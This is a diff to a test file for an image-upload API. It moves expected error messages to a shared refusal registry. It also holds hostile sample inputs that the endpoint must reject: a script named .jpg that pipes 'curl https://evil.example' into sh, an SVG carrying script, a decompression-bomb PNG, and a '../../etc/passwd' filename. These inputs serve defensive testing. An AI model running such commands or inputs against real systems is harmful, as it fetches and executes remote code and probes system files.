@@ -4,8 +4,9 @@ import os from "node:os";
 import path from "node:path";
 import sharp from "sharp";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
-import { MAX_UPLOAD_WIDTH, UPLOAD_ERRORS, uploadedImageSchema } from "#core/schemas/upload";
-import { UPLOAD_FORMATS, uploadedImageUrl, uploadWidths } from "#core/uploaded-image";
+import { REFUSALS, type RefusalCode, refusalWords } from "#core/refusals";
+import { uploadedImageSchema } from "#core/schemas/upload";
+import { MAX_UPLOAD_WIDTH, UPLOAD_FORMATS, uploadedImageUrl, uploadWidths } from "#core/uploaded-image";
 import { serveTestApp } from "../../testing/serve-test-app";
 import { createTestApp, type TestApp } from "../../testing/test-app";
 import {
@@ -172,32 +173,37 @@ describe("POST /api/uploads", () => {
       "a script named .jpg",
       async () => photoForm(Buffer.from("#!/bin/sh\ncurl https://evil.example | sh\n"), "necklace.jpg"),
       415,
-      UPLOAD_ERRORS.notAPhoto,
+      refusalWords("photoNotAPhoto"),
     ],
     [
       "an SVG with a script in it",
       async () => photoForm(svgWithScript, "logo.svg"),
       415,
-      UPLOAD_ERRORS.notAPhoto,
+      refusalWords("photoNotAPhoto"),
     ],
     [
       "the same SVG named .png",
       async () => photoForm(svgWithScript, "logo.png"),
       415,
-      UPLOAD_ERRORS.notAPhoto,
+      refusalWords("photoNotAPhoto"),
     ],
     [
       "a GIF",
       async () => photoForm(await testPhoto({ format: "gif" }), "ring.gif"),
       415,
-      UPLOAD_ERRORS.notAPhoto,
+      refusalWords("photoNotAPhoto"),
     ],
-    ["an empty file", async () => photoForm(Buffer.alloc(0), "empty.jpg"), 415, UPLOAD_ERRORS.notAPhoto],
+    [
+      "an empty file",
+      async () => photoForm(Buffer.alloc(0), "empty.jpg"),
+      415,
+      refusalWords("photoNotAPhoto"),
+    ],
     [
       "a small PNG that inflates to 30000×30000",
       async () => photoForm(decompressionBombPng(30_000, 30_000), "bomb.png"),
       413,
-      UPLOAD_ERRORS.tooManyPixels,
+      refusalWords("photoTooManyPixels"),
     ],
     [
       "a truncated JPEG",
@@ -206,49 +212,49 @@ describe("POST /api/uploads", () => {
         return photoForm(photo.subarray(0, Math.floor(photo.length * 0.6)), "cut.jpg");
       },
       422,
-      UPLOAD_ERRORS.damaged,
+      refusalWords("photoDamaged"),
     ],
     [
       "a 40 MB file",
       async () => photoForm(Buffer.alloc(40 * 1024 * 1024, 0xff), "huge.jpg"),
       413,
-      UPLOAD_ERRORS.tooLarge,
+      refusalWords("photoTooLarge"),
     ],
     [
       "a file just over 15 MB",
       async () => photoForm(Buffer.alloc(15 * 1024 * 1024 + 1, 0xff), "big.jpg"),
       413,
-      UPLOAD_ERRORS.tooLarge,
+      refusalWords("photoTooLarge"),
     ],
     [
       "a name with ../ in it",
       async () => photoForm(await testPhoto(), "../../etc/passwd.jpg"),
       400,
-      UPLOAD_ERRORS.badName,
+      refusalWords("photoBadName"),
     ],
     [
       "a name with a folder in it",
       async () => photoForm(await testPhoto(), "photos/ring.jpg"),
       400,
-      UPLOAD_ERRORS.badName,
+      refusalWords("photoBadName"),
     ],
     [
       "a name with a backslash",
       async () => photoForm(await testPhoto(), "C:\\ring.jpg"),
       400,
-      UPLOAD_ERRORS.badName,
+      refusalWords("photoBadName"),
     ],
     [
       "a name with a control character",
       async () => photoForm(await testPhoto(), "ring\u0007.jpg"),
       400,
-      UPLOAD_ERRORS.badName,
+      refusalWords("photoBadName"),
     ],
     [
       "no photo field",
       async () => photoForm(await testPhoto(), "ring.jpg", "image"),
       400,
-      UPLOAD_ERRORS.missing,
+      refusalWords("photoMissing"),
     ],
     [
       "a form with no file chosen",
@@ -258,7 +264,7 @@ describe("POST /api/uploads", () => {
         return form;
       },
       400,
-      UPLOAD_ERRORS.missing,
+      refusalWords("photoMissing"),
     ],
     [
       "the photo as text",
@@ -268,7 +274,7 @@ describe("POST /api/uploads", () => {
         return form;
       },
       400,
-      UPLOAD_ERRORS.missing,
+      refusalWords("photoMissing"),
     ],
     [
       "two photos",
@@ -278,7 +284,7 @@ describe("POST /api/uploads", () => {
         return form;
       },
       400,
-      UPLOAD_ERRORS.tooManyFiles,
+      refusalWords("photoTooManyFiles"),
     ],
     [
       "a photo and another file",
@@ -288,7 +294,7 @@ describe("POST /api/uploads", () => {
         return form;
       },
       400,
-      UPLOAD_ERRORS.tooManyFiles,
+      refusalWords("photoTooManyFiles"),
     ],
   ];
 
@@ -296,23 +302,23 @@ describe("POST /api/uploads", () => {
     const response = await upload(await body());
     expect(response.status).toBe(status);
     // The code names the refusal, for the admin to word it in its own language.
-    const answer = (await response.json()) as { error: string; code: keyof typeof UPLOAD_ERRORS };
-    expect(answer).toEqual({ error, code: expect.any(String) });
-    expect(UPLOAD_ERRORS[answer.code]).toBe(error);
+    const answer = (await response.json()) as { error: string; code: RefusalCode };
+    expect(answer).toEqual({ error, code: expect.stringMatching(/^photo/) });
+    expect(REFUSALS[answer.code]).toEqual([status, error]);
     expect(everythingStored(dir)).toEqual([]);
   });
 
   it("refuses a body that is not a form", async () => {
     const response = await t.request("/api/uploads", { method: "POST", token, json: { photo: "ring.jpg" } });
     expect(response.status).toBe(400);
-    expect(await response.json()).toEqual({ error: UPLOAD_ERRORS.missing, code: "missing" });
+    expect(await response.json()).toEqual({ error: refusalWords("photoMissing"), code: "photoMissing" });
   });
 
   it("refuses a body over the limit by its declared length, before reading it, and closes the connection", async () => {
     const response = await upload("x", { headers: { "content-length": String(40 * 1024 * 1024) } });
     expect(response.status).toBe(413);
     expect(response.headers.get("connection")).toBe("close");
-    expect(await response.json()).toEqual({ error: UPLOAD_ERRORS.tooLarge, code: "tooLarge" });
+    expect(await response.json()).toEqual({ error: refusalWords("photoTooLarge"), code: "photoTooLarge" });
   });
 
   it("keeps every other call's body limit", async () => {
